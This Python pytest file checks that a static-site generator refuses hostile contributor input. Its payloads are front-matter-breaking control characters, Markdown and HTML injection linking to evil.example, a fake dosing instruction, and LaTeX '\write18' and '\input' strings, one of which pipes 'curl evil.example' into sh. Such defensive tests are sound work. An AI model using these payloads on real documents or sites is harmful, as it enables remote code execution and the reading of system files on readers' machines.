"""What a hostile pull request still gets onto the site (adversarial review of issue 11, items 3
and 4). Each test expects the SAFE outcome, so each one fails until its finding is fixed.

1. A DEL (U+007F), a C1 control or a noncharacter in a name or a bib title passes `check
   --strict`; the `yaml` filter writes it raw into the page's front matter, PyYAML refuses the
   front matter, MkDocs then keeps it as Markdown body text, and the JSON-LD line, which escapes
   only `<`, `>` and `&`, turns the contributor's `[text](https://…)` into a live link (and
   `**…**` into bold, `![…](…)` into an image). The page also loses its title, description,
   JSON-LD and, for a reference page, its search exclusion. The audit passes it: a link to
   another host is allowed.
2. Control characters, bidi overrides and separators in a contributor field are not a check
   error (issue 11, item 3, last sentence).
3. The exported /data/references.bib is the contributor's file verbatim: `@preamble`,
   `\\write18`, `\\input` pass check and reach every reader who cites the site with LaTeX.
4. Broken output: an entry named `Ref 1` gets the heading id `ref-1`, which every `[1]` link of
   its page then jumps to; citeproc shows `pages = {S1 \\& S3}` as `S1 & #38; S3`; Graphviz
   decodes `&lt;` in a molecule name, so the diagram shows another text than the page; the cite
   box's BibTeX leaves `~` and `^` live.
5. Hand-written pages (maintainers only) passed `subtitle` and `status` from their front
   matter into the navigation of every page unescaped; the check now refuses those keys.
"""

from __future__ import annotations

import contextlib
import html
import io
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from allokb.cli import main
from allokb.render.environment import yaml_string
from conftest import make_project, make_site_project

EVIL = "https://evil.example/guide"
# Characters PyYAML refuses in a stream that json.dumps(ensure_ascii=False) leaves raw.
FRONT_MATTER_BREAKERS = ["\x7f", "\x80", "\x9f", "\ufffe", "\uffff"]


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _build(root: Path) -> subprocess.CompletedProcess[str]:
    """`allokb build` in-process (the process is not what these tests are about), with what it
    printed on stdout and stderr."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(["build", str(root), "--site-dir", str(root / "site")])
    return subprocess.CompletedProcess([], status, out.getvalue(), err.getvalue())


def _visible(text: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", text))


# 1. The front matter: one character turns it into Markdown body text.

@pytest.mark.parametrize("char", FRONT_MATTER_BREAKERS, ids=lambda c: f"U+{ord(c):04X}")
def test_the_yaml_filter_reads_back_as_the_same_text(char: str) -> None:
    value = f"Example{char}hormone"
    assert yaml.safe_load("title: " + yaml_string(value)) == {"title": value}


@pytest.mark.parametrize("char", FRONT_MATTER_BREAKERS, ids=lambda c: f"U+{ord(c):04X}")
def test_a_name_cannot_turn_the_front_matter_into_live_markdown(tmp_path: Path, char: str) -> None:
    root = make_site_project(tmp_path / "project")
    name = f"Example hormone{char} [Official dosing guide]({EVIL}) **take ten times the dose**"
    _edit(root / "content" / "interventions" / "example-hormone.yaml", 'name: "Example hormone"',
          'name: "' + name.encode("unicode_escape").decode("ascii") + '"')
    proc = _build(root)
    if proc.returncode != 0:  # refused at check (issue 11, item 3): one located line, no site
        assert re.search(r"^content/interventions/example-hormone\.yaml:2:\d+: error\[KB\d{3}\] \$\.name: ",
                         proc.stdout + proc.stderr, re.M), proc.stdout + proc.stderr
        assert not (root / "site").exists()
        return
    page = (root / "site" / "interventions" / "example-hormone" / "index.html").read_text(encoding="utf-8")
    assert f'href="{EVIL}"' not in page
    assert "<strong>take ten times the dose</strong>" not in page
    assert "jsonld: " not in _visible(page)  # the front matter is metadata, never body text
    title = re.search(r"<title>(.*?)</title>", page, re.S)
    assert title and _visible(title.group(1)).startswith("Example hormone")


def test_a_bib_title_cannot_turn_a_reference_page_into_live_markdown(tmp_path: Path) -> None:
    root = make_site_project(tmp_path / "project")
    _edit(root / "references.bib", "title = {Example page}", f"title = {{Example page\x7f [Full text PDF]({EVIL})}}")
    proc = _build(root)
    if proc.returncode != 0:
        assert re.search(r"^references\.bib:\d+:\d+: error\[KB\d{3}\] \$\.examplewiki2024page\.title: ",
                         proc.stdout + proc.stderr, re.M), proc.stdout + proc.stderr
        return
    site = root / "site"
    for page in ("references/examplewiki2024page/index.html", "interventions/example-hormone/index.html"):
        assert f'href="{EVIL}"' not in (site / page).read_text(encoding="utf-8"), page
    # A reference page stays out of the search index (its front matter says so).
    assert '"location":"references/examplewiki2024page/' not in (site / "search" / "search_index.json").read_text()


# 2. Control characters are a located error at check (issue 11, item 3).

@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x7f", "\x85", "\u2028", "\u202e", "\u2066", "\ufffe"],
                         ids=lambda c: f"U+{ord(c):04X}")
def test_a_control_character_in_a_name_is_a_located_error(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                         char: str) -> None:
    root = make_project(tmp_path / "kb")
    _edit(root / "content" / "interventions" / "example-hormone.yaml", 'name: "Example hormone"',
          'name: "Example' + char.encode("unicode_escape").decode("ascii") + 'hormone"')
    assert main(["check", str(root)]) == 1
    out = capsys.readouterr().out
    assert re.search(r"^content/interventions/example-hormone\.yaml:2:\d+: error\[KB\d{3}\] \$\.name: ", out, re.M), out


# 3. The published bibliography.

@pytest.mark.parametrize("planted", [
    '@preamble{"\\immediate\\write18{touch /tmp/allokb-pwned}"}',
    "@misc{evil2020input, title = {\\input{/etc/passwd}}, year = {2020}}",
    "@misc{evil2020shell, title = {A study\\immediate\\write18{curl evil.example|sh}}, year = {2020}}",
], ids=["preamble", "input", "write18"])
def test_the_published_bibliography_carries_no_latex_that_runs(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                              planted: str) -> None:
    root = make_project(tmp_path / "kb")
    bib = root / "references.bib"
    text = bib.read_text(encoding="utf-8")
    line = text.count("\n") + 2
    bib.write_text(text + "\n" + planted + "\n", encoding="utf-8")
    assert main(["check", str(root)]) == 1
    out = capsys.readouterr().out
    assert re.search(rf"^references\.bib:{line}:\d+: error\[KB4\d\d\] ", out, re.M), out


# 4. Broken output, found in one built project.

@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = make_site_project(tmp_path_factory.mktemp("adversary") / "project")
    _edit(root / "content" / "interventions" / "example-hormone.yaml", 'name: "Example hormone"', 'name: "Ref 1"')
    _edit(root / "content" / "mechanisms" / "step-one.yaml", 'substrate: "Precursor"', 'substrate: "Pre &lt;b&gt;"')
    _edit(root / "references.bib", "pages = {1--10}", "pages = {S1 \\& S3}")
    proc = _build(root)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return root / "site"


def test_an_entry_name_does_not_take_a_reference_anchor(odd: Path) -> None:
    page = (odd / "interventions" / "example-hormone" / "index.html").read_text(encoding="utf-8")
    holders = re.findall(r'<(\w+)[^>]*\sid="ref-1"', page)
    assert holders == ["li"], holders  # every [1] on the page jumps to the reference, not the title


def test_pages_with_an_ampersand_show_as_written(odd: Path) -> None:
    page = (odd / "references" / "smith2020example" / "index.html").read_text(encoding="utf-8")
    formatted = re.search(r'<p class="allokb-formatted">(.*?)</p>', page, re.S)
    assert formatted and "S1 & S3" in _visible(formatted.group(1)), formatted and formatted.group(1)


def test_the_diagram_shows_a_molecule_name_as_written(odd: Path) -> None:
    page = (odd / "mechanisms" / "index.html").read_text(encoding="utf-8")
    start = page.index('<figure class="allokb-diagram"')
    svg = page[start: page.index("</figure>", start)]
    texts = [html.unescape(t) for t in re.findall(r"<text[^>]*>(.*?)</text>", svg, re.S)]
    assert "Pre &lt;b&gt;" in texts, texts  # as on the mechanism's own page, not "Pre <b>"


def test_hand_written_front_matter_cannot_reach_the_navigation(tmp_path: Path) -> None:
    root = make_site_project(tmp_path / "project")
    about = root / "content" / "pages" / "about.md"
    about.write_text(about.read_text(encoding="utf-8").replace(
        "---\n", f'---\nsubtitle: "<a href={EVIL}>x</a>"\nstatus: "new\\"><a href={EVIL}>y</a>"\n', 1),
        encoding="utf-8")
    proc = _build(root)
    assert proc.returncode == 1
    assert [line.split(": ", 2)[:2] for line in proc.stdout.splitlines() if "KB117" in line] == [
        ["content/pages/about.md:2:1", "error[KB117] $.subtitle"], ["content/pages/about.md:3:1", "error[KB117] $.status"]]


def test_the_cite_box_bibtex_writes_tilde_and_caret_as_text() -> None:
    from allokb.render.views import SiteInfo, page_citation

    site = SiteInfo("Atlas", "https://a.example/", None, "main", {}, "2026-01-01")
    bibtex = page_citation(site, "5α~DHP^2", "x/", "2026-01-01")["bibtex"]
    assert "  title = {5α\\textasciitilde{}DHP\\textasciicircum{}2},\n" in bibtex, bibtex
